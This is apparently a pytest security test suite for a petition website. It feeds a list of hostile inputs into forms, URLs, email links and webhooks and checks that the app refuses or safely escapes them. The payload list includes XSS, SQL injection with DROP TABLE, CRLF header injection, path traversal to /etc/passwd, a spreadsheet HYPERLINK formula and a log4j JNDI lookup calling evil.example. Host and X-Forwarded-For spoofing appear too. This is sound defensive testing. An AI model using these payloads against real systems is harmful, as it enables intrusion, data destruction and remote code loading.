"""The abuse battery: every nasty payload in every public field and endpoint. Each answer is a
clean 4xx or a value that is stored whole and shown harmlessly; never a 5xx, never half a row."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import func, select

from petition.extensions import db
from petition.mail import deliver_due
from petition.models import (
    ConsentEvent,
    CountJournalEntry,
    OutboxMessage,
    Signature,
    SignatureToken,
)
from tests.factories import ORIGIN, SLUG, log_in, make_admin, sign, signer
from tests.test_widget import widget_token

SCRIPT = "<script>alert(1)</script>"
PAYLOADS = {
    "script": SCRIPT,
    "attribute break-out": '"><img src=x onerror=alert(1)>',
    "sql quote": "' OR '1'='1' --",
    "sql statement": "Robert'); DROP TABLE signatures;--",
    "template": "{{7*7}}{% raw %}${7*7}",
    "nul byte": "Ada\x00Lovelace",
    "crlf header": "Ada\r\nBcc: victim@example.org",
    "ten thousand characters": "A" * 10_000,
    "full-width email": "ａｄａ＠ｅｘａｍｐｌｅ．ｏｒｇ",
    "homoglyph email": "аda@example.org",  # a Cyrillic "а"
    "right-to-left override": "Ada\u202eecalevol",
    "path traversal": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "log4j": "${jndi:ldap://evil.example/a}",
    "emoji": "Ada 🕊️ Lovelace",
}
SIGN_FIELDS = [
    "name",
    "email",
    "postcode",
    "country",
    "consent_updates",
    "website",
    "source",
    "ref",
    "utm_source",
]


def counts() -> dict[str, int]:
    return {
        model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
        for model in (Signature, SignatureToken, OutboxMessage, CountJournalEntry)
    }


def consistent() -> None:
    """Every signature is whole: links issued, an email queued, its count change journalled."""
    c = counts()
    assert c["signature_tokens"] >= 2 * c["signatures"]
    assert c["outbox"] >= c["signatures"]
    assert c["count_journal"] == c["signatures"]  # each new signature journals one +1 pending
    for (signature_id,) in db.session.execute(select(Signature.id)):
        assert (
            db.session.scalar(
                select(func.count()).where(SignatureToken.signature_id == signature_id)
            )
            >= 2
        )


def submit(client, endpoint: str, fields: dict[str, str]) -> int:
    if endpoint == "page":
        fields = {**fields, "form_token": widget_token(client)}
        return client.post(
            f"/petitions/{SLUG}/sign", data=fields, headers={"Origin": ORIGIN}
        ).status_code
    if endpoint == "widget":
        fields = {**fields, "form_token": widget_token(client)}
        return client.post(
            f"/embed/petitions/{SLUG}/sign", data=fields, headers={"Origin": ORIGIN}
        ).status_code
    body = {**fields, "form_token": widget_token(client)}
    if "consent_updates" in fields:
        body["consent_updates"] = fields["consent_updates"]
    return client.post(
        f"/api/v1/petitions/{SLUG}/signatures",
        data=json.dumps(body),
        content_type="application/json",
        headers={"Origin": ORIGIN},
    ).status_code


# What a clean submission gets from each endpoint: the positive control of every payload test.
SIGNED = {"page": 303, "widget": 200, "api": 202}
CLEAN = {
    "consent_updates": "y",
    "website": "",
    "source": "article:x",
    "ref": "news.example",
    "utm_source": "newsletter",
}


def signed_cleanly(app, client, endpoint: str, field: str) -> None:
    """The same field, through the same endpoint, with ordinary input, signs: a broken form (a
    403 for everyone, say) fails the battery instead of passing it."""
    email = f"clean-{endpoint}-{field}@example.org"
    fields = signer(email=email)
    if field in CLEAN:
        fields[field] = CLEAN[field]
    if endpoint == "api" and field == "consent_updates":
        fields[field] = True  # JSON says yes with a boolean
    assert submit(client, endpoint, fields) == SIGNED[endpoint], (endpoint, field)
    with app.app_context():
        stored = db.session.scalar(select(func.count()).where(Signature.email == email))
    assert stored == 1, (endpoint, field)


@pytest.mark.parametrize("endpoint", ["page", "widget", "api"])
@pytest.mark.parametrize("field", SIGN_FIELDS)
def test_every_payload_in_every_sign_field(app, client, mailbox, endpoint, field):
    signed_cleanly(app, client, endpoint, field)
    statuses = {}
    for i, (label, payload) in enumerate(PAYLOADS.items()):
        fields = signer(email=f"abuse{i}@example.org")
        fields[field] = payload
        status = submit(client, endpoint, fields)
        statuses[label] = status
        assert status < 500, (label, status)
        # A payload is refused for what it is (400, 413, 422) or taken: never a 403, which
        # would mean the form itself was refused.
        assert status in (200, 202, 303, 400, 413, 422), (label, status)
        with app.app_context():
            consistent()
    # What got in is shown escaped in the admin, in emails, and neutralised in exports.
    with app.app_context():
        deliver_due()
        make_admin()
    bodies = [m.get_body(("html",)).get_content() for m in mailbox.messages]
    admin = app.test_client()
    log_in(admin)
    pages = [admin.get("/admin/signatures", query_string={"petition": SLUG}).get_data(as_text=True)]
    pages += [
        admin.get("/admin/privacy", query_string={"email": f"abuse{i}@example.org"}).get_data(
            as_text=True
        )
        for i in range(len(PAYLOADS))
    ]
    for text in pages + list(bodies):
        assert SCRIPT not in text and "<img src=x" not in text
    export = admin.get(f"/admin/petitions/{SLUG}/signatures.csv?state=all").get_data(as_text=True)
    for row in csv.reader(io.StringIO(export)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize(
    ("method", "path", "content_type"),
    [
        ("POST", f"/petitions/{SLUG}/sign", "application/x-www-form-urlencoded"),
        ("POST", f"/embed/petitions/{SLUG}/sign", "application/x-www-form-urlencoded"),
        ("POST", f"/api/v1/petitions/{SLUG}/signatures", "application/json"),
        ("POST", "/donate", "application/x-www-form-urlencoded"),
        ("POST", "/admin/login", "application/x-www-form-urlencoded"),
        ("POST", "/stripe/webhook", "application/json"),
    ],
)
def test_one_megabyte_bodies_are_refused_with_413(app, client, method, path, content_type):
    body = b"name=" + b"A" * (1024 * 1024 + 10)
    response = client.open(
        path, method=method, data=body, content_type=content_type, headers={"Origin": ORIGIN}
    )
    assert response.status_code == 413
    with app.app_context():
        assert counts()["signatures"] == 0


@pytest.mark.parametrize(
    "path", [f"/petitions/{SLUG}/sign", f"/embed/petitions/{SLUG}/sign", "/donate", "/admin/login"]
)
def test_invalid_utf8_in_forms_is_400(app, client, path):
    token = widget_token(client)
    body = (
        b"name=Ada%C3%28&email=ada%40example.org&country=GB&postcode=SW1A1AA&amount=10&form_token="
        + token.encode()
    )
    response = client.post(
        path,
        data=body,
        content_type="application/x-www-form-urlencoded",
        headers={"Origin": ORIGIN},
    )
    assert response.status_code == 400
    with app.app_context():
        assert counts()["signatures"] == 0


@pytest.mark.parametrize("payload", list(PAYLOADS.values()) + ["%2e%2e%2f", "a" * 500])
@pytest.mark.parametrize(
    "template",
    [
        "/petitions/{}",
        "/petitions/{}/thanks",
        "/embed/petitions/{}",
        "/api/v1/petitions/{}",
        "/articles/{}",
        "/signatures/confirm/{}",
        "/signatures/withdraw/{}",
        "/admin/petitions/{}",
    ],
)
def test_payloads_in_paths_are_not_found_not_errors(client, template, payload):
    response = client.get(
        template.format(
            payload.replace("/", "%2F").replace("\x00", "%00").replace("\r\n", "%0D%0A")
        )
    )
    assert response.status_code in (302, 303, 308, 400, 404), response.status_code


@pytest.mark.parametrize("payload", list(PAYLOADS.values()) + ["a" * 500])
@pytest.mark.parametrize(
    "template",
    [
        "/signatures/confirm/{}",
        "/signatures/withdraw/{}",
        "/signatures/withdraw/{}/updates",
        "/signatures/stop-updates/{}",
    ],
)
def test_payloads_as_link_tokens_change_nothing(app, client, template, payload):
    """The links in our emails, posted with forged tokens: not found, nothing changed."""
    assert sign(client, consent_updates="y").status_code == 303
    escaped = payload.replace("/", "%2F").replace("\x00", "%00").replace("\r\n", "%0D%0A")
    response = client.post(template.format(escaped), headers={"Origin": ORIGIN})
    assert response.status_code in (400, 404), response.status_code
    with app.app_context():
        signature = db.session.scalar(select(Signature))
        assert signature.state.value == "pending" and signature.consent_updates
        assert signature.withdrawn_at is None
        assert db.session.scalar(select(func.count()).select_from(ConsentEvent)) == 0


@pytest.mark.parametrize("payload", list(PAYLOADS.values()))
@pytest.mark.parametrize(
    ("path", "parameter"),
    [
        (f"/petitions/{SLUG}", "source"),
        (f"/petitions/{SLUG}", "utm_campaign"),
        ("/donate", "amount"),
        ("/donate", "source"),
        (f"/embed/petitions/{SLUG}", "ref"),
        ("/go/gofundme", "source"),
        ("/oembed", "url"),
        ("/donate/thanks", "session_id"),
        ("/articles/krasnodar-riot-police-sue-over-dismissal", "utm_source"),
        ("/admin/login", "next"),
    ],
)
def test_payloads_in_query_strings_are_harmless(client, path, parameter, payload):
    response = client.get(path, query_string={parameter: payload})
    assert response.status_code < 500
    body = response.get_data(as_text=True)
    assert SCRIPT not in body and '"><img src=x' not in body
    if response.status_code in (301, 302, 303):
        assert "evil.example" not in response.headers["Location"]


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "javascript:alert(1)",
    ],
)
def test_no_open_redirects(client, target):
    for path, parameter in (
        ("/go/gofundme", "url"),
        ("/go/gofundme", "next"),
        ("/admin/login", "next"),
        ("/donate", "next"),
    ):
        response = client.get(path, query_string={parameter: target})
        location = response.headers.get("Location", "")
        assert "evil.example" not in location and "javascript:" not in location


def test_links_in_emails_never_come_from_the_host_header(app, client, mailbox):
    token = widget_token(client)
    response = client.post(
        f"/petitions/{SLUG}/sign",
        data={**signer(), "form_token": token},
        headers={"Host": "evil.example", "Origin": "http://evil.example"},
    )
    assert response.status_code == 303
    with app.app_context():
        deliver_due()
    text = mailbox.wait_for(1)[0].get_body(("plain",)).get_content()
    assert "evil.example" not in text
    assert re.search(r"http://petition\.test/signatures/confirm/", text)


def test_x_forwarded_for_is_ignored_unless_a_proxy_is_trusted(make_app):
    from tests.factories import signature_for

    spoofed = {"X-Forwarded-For": "203.0.113.9", "Origin": ORIGIN}
    plain = make_app()
    client = plain.test_client()
    client.post(
        f"/petitions/{SLUG}/sign",
        data={**signer(email="one@example.org"), "form_token": widget_token(client)},
        headers=spoofed,
    )
    with plain.app_context():
        assert signature_for("one@example.org").ip_address == "127.0.0.1"

    proxied = make_app(TRUSTED_PROXY_COUNT=1)
    client = proxied.test_client()
    client.post(
        f"/petitions/{SLUG}/sign",
        data={**signer(email="two@example.org"), "form_token": widget_token(client)},
        headers={"X-Forwarded-For": "198.51.100.1, 203.0.113.9", "Origin": ORIGIN},
    )
    with proxied.app_context():
        # Only the hop our own proxy added is believed; what the client claimed is not.
        assert signature_for("two@example.org").ip_address == "203.0.113.9"


def test_spoofed_forwarded_addresses_do_not_escape_the_rate_limit(make_app):
    app = make_app(RATELIMIT_ENABLED=True, SIGN_RATE_LIMIT="2 per minute")
    client = app.test_client()
    token = widget_token(client)
    codes = [
        client.post(
            f"/petitions/{SLUG}/sign",
            data={**signer(email=f"x{i}@example.org"), "form_token": token},
            headers={"X-Forwarded-For": f"198.51.100.{i}", "Origin": ORIGIN},
        ).status_code
        for i in range(3)
    ]
    assert codes == [303, 303, 429]


@pytest.mark.parametrize(
    "payload", [b"", b"{}", b"[]", b"null", b'{"id": 1}', b"\xff\xfe", b"A" * 5000]
)
def test_webhook_garbage_is_400(make_app, payload):
    from tests.fake_stripe import WEBHOOK_SECRET

    app = make_app(STRIPE_SECRET_KEY="sk_test_x", STRIPE_WEBHOOK_SECRET=WEBHOOK_SECRET)
    response = app.test_client().post(
        "/stripe/webhook", data=payload, headers={"Stripe-Signature": "t=1,v1=abc"}
    )
    assert response.status_code == 400


@pytest.mark.parametrize("endpoint", ["page", "widget", "api"])
def test_the_battery_fails_if_signing_is_broken(app, client, monkeypatch, endpoint):
    """The positive control earns its keep: with every signature refused (403), it fails."""
    from werkzeug.exceptions import Forbidden

    def refuse(*args: object, **kwargs: object) -> None:
        raise Forbidden("broken on purpose")

    monkeypatch.setattr("petition.security.form_tokens.guard", refuse)
    with pytest.raises(AssertionError):
        signed_cleanly(app, client, endpoint, "name")
